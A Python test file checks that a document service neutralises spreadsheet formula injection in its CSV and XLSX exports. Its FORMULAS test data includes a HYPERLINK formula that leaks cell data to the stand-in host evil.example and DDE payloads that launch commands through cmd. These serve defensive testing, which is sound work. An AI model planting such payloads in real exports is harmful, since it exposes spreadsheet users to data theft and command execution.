"""Spreadsheet formulas (issue 11a): a discipline named ``=HYPERLINK("http://…","x")`` was written
unquoted into the archive's CSV files, where Excel runs it. Every cell the app writes to a CSV or
an XLSX that begins with = + - @, a tab or a carriage return is made inert: CSV cells get a
leading apostrophe (``spreadsheets.inert``), XLSX cells stay the same text with Excel's quote
prefix (``spreadsheets.inert_cell``), so an exported dataset imports again unchanged."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from docservice.batch import jobs
from docservice.dataset_xlsx import dataset_to_xlsx_bytes, read_workbook
from docservice.models import CurriculumItem, Department, User, db
from docservice.spreadsheets import inert

PERIOD = "2026-2027/1"
FORMULAS = {"hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Анатомия")',
            "plus": "+1+cmd|' /C calc'!A0", "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)*cmd|' /C calc'!A0",
            "tab": "\t=1+1", "carriage_return": "\r=1+1"}


@pytest.mark.parametrize("value, shown", [("=1+1", "'=1+1"), ("+7 701", "'+7 701"), ("-", "'-"), ("@x", "'@x"),
                                          ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Анатомия", "Анатомия"),
                                          ("a=1", "a=1"), ("", ""), (None, None), (-5, -5), (2.5, 2.5)])
def test_inert(value, shown):
    assert inert(value) == shown


def _archive_csv(app, tmp_path, name: str) -> list[list[str]]:
    """Print the period (a type with no documents: only the reports) and read one of its CSVs."""
    app.config.update(BATCH_WORKERS=1, CELERY_BROKER_URL=None)
    out = tmp_path / "job"
    job = jobs.run(jobs.start(None, PERIOD, "ru", types=["login_request"], output=str(out)).id, workers=1)
    with zipfile.ZipFile(out / job.report["zip"]) as archive:
        text = archive.read(name).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("kind", list(FORMULAS))
def test_the_archives_csv_never_holds_a_formula(app, sample, tmp_path, kind):
    """The issue's discipline, and the other starts, in the discipline, department and teacher
    columns of open-journals.csv."""
    formula = FORMULAS[kind]
    item = db.session.scalar(db.select(CurriculumItem).where(CurriculumItem.code == "ANA2101"))
    item.name_ru = formula
    db.session.scalar(db.select(Department).where(Department.code == "ANAT")).name_ru = formula
    db.session.scalar(db.select(User).where(User.login == "t.anat2")).full_name = formula
    db.session.commit()
    rows = _archive_csv(app, tmp_path, "open-journals.csv")
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells[:12]
    assert cells.count("'" + formula) >= 3  # the text itself, shown as text, in each column


@pytest.mark.parametrize("kind", list(FORMULAS))
def test_a_dataset_workbook_keeps_the_text_and_never_a_formula(sample_data, kind):
    formula = FORMULAS[kind]
    data = json.loads(json.dumps(sample_data))
    data["curriculum"][0]["name"]["ru"] = formula
    data["staff"][8]["full_name"] = formula
    content = dataset_to_xlsx_bytes(data)
    book = load_workbook(io.BytesIO(content))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert len(found) == 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    parts = zipfile.ZipFile(io.BytesIO(content))
    assert not [n for n in parts.namelist() if b"<f>" in parts.read(n)]  # no formula element anywhere
    again, _ = read_workbook(content)
    assert again["curriculum"][0]["name"]["ru"] == formula.strip() and again["staff"][8]["full_name"] == formula.strip()


def test_the_command_lines_export_is_inert(app, sample_data, tmp_path, runner):
    data = json.loads(json.dumps(sample_data))
    data["curriculum"][0]["name"]["kk"] = FORMULAS["hyperlink"]
    source, target = tmp_path / "faculty.json", tmp_path / "faculty.xlsx"
    source.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    out = runner.invoke(args=["journal", "convert", str(source), str(target)])
    assert out.exit_code == 0, out.output
    cells = [c for s in load_workbook(target) for r in s.iter_rows() for c in r if c.value == FORMULAS["hyperlink"]]
    assert cells and all(c.quotePrefix and c.data_type == "s" for c in cells)
